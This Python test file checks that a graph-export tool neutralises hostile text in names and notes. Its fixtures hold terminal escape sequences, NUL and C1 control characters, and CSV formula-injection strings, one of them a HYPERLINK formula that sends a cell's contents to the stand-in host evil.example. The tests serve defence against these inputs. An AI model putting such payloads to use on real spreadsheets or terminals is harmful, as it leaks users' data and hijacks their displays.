"""Hostile text in names and notes (issue #15, items 9 and 10, output side): control characters
never break XML or reach the terminal; formula-like cells never run in a spreadsheet."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import pandas as pd
import pytest

from computechain.cli.output import emit
from computechain.exports.formats import gexf_text, graphml_text
from computechain.exports.picture import picture_bytes
from computechain.exports.tables import write_csv, write_neo4j_csv

ESC_TITLE = "Acme\x1b]0;owned\x07 Foundry"  # retitles an xterm
NUL_NOTE = "before\x00after\x9b2J"  # NUL breaks XML; C1 CSI clears some terminals' screens
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def hostile() -> nx.MultiDiGraph:
    G = nx.MultiDiGraph(sources={"source:s": {"type": "source", "name": "@SUM(1+1)", "publisher": "P",
                                               "date": "2024", "url": None, "kind": "filing"}})
    G.add_node("company:acme", type="company", name=ESC_TITLE, note=NUL_NOTE, aliases=[FORMULA, "+1-2"],
               sources=["source:s"])
    G.add_node("segment:hbm", type="segment", name="-HBM", note="\tTabbed")
    G.add_edge("company:acme", "segment:hbm", key="r", kind="participates_in", market_share=0.5,
               note="\rCR first", sources=["source:s"])
    return G


@pytest.mark.parametrize("text", [graphml_text, gexf_text])
def test_xml_exports_stay_well_formed_and_show_the_controls(text, hostile: nx.MultiDiGraph) -> None:  # type: ignore[no-untyped-def]
    document = text(hostile)
    ET.fromstring(document.encode("utf-8"))  # raises on a NUL or ESC
    assert "Acme\\x1b]0;owned\\x07 Foundry" in document and "before\\x00after\\x9b2J" in document
    assert "\x1b" not in document and "\x00" not in document and "\x9b" not in document


def test_svg_stays_well_formed_and_a_dollar_is_no_mathtext(hostile: nx.MultiDiGraph) -> None:
    hostile.add_node("company:cash", type="company", name="Cash $\\frac{1}{$ Co")  # bad mathtext
    svg = picture_bytes(hostile, fmt="svg", title="t\x1b[31m")
    assert ET.fromstring(svg).tag == "{http://www.w3.org/2000/svg}svg"


@pytest.mark.parametrize("fmt", ["csv", "json", "table"])
def test_the_terminal_never_gets_a_control_character(fmt: str, capsys: pytest.CaptureFixture[str]) -> None:
    emit(pd.DataFrame({"name": [ESC_TITLE, NUL_NOTE, "[link=http://evil.example]x[/link]"]}), fmt,  # type: ignore[arg-type]
         title="search \x1b[2J")
    out = capsys.readouterr().out
    assert not any((ord(c) < 32 and c != "\n") or 0x7F <= ord(c) <= 0x9F for c in out), repr(out)
    assert "x1b]0;owned" in out and "x9b2J" in out
    assert "[link=http://evil.example]x[/link]" in out  # rich markup printed as text, never a hyperlink


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.mark.parametrize(("write", "files"), [(write_csv, ("nodes.csv", "edges.csv", "sources.csv")),
                                              (write_neo4j_csv, ("nodes.csv", "relationships.csv"))])
def test_formula_cells_are_neutralised(write, files: tuple[str, ...], hostile: nx.MultiDiGraph,  # type: ignore[no-untyped-def]
                                       tmp_path: Path) -> None:
    write(hostile, tmp_path / "out")
    cells = [cell for name in files for cell in _cells(tmp_path / "out" / name)]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{FORMULA};+1-2" in cells and "'-HBM" in cells and "'\tTabbed" in cells and "'\rCR first" in cells
    assert "0.5" in cells and "'@SUM(1+1)" in cells  # numbers stay numbers; source titles too


def test_the_csv_cells_read_back_unchanged_but_for_the_quote(hostile: nx.MultiDiGraph, tmp_path: Path) -> None:
    write_csv(hostile, tmp_path / "out")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "nodes.csv").read_text(encoding="utf-8"))))
    assert [r["name"] for r in rows] == [ESC_TITLE, "'-HBM"]  # files keep the data; only terminals escape
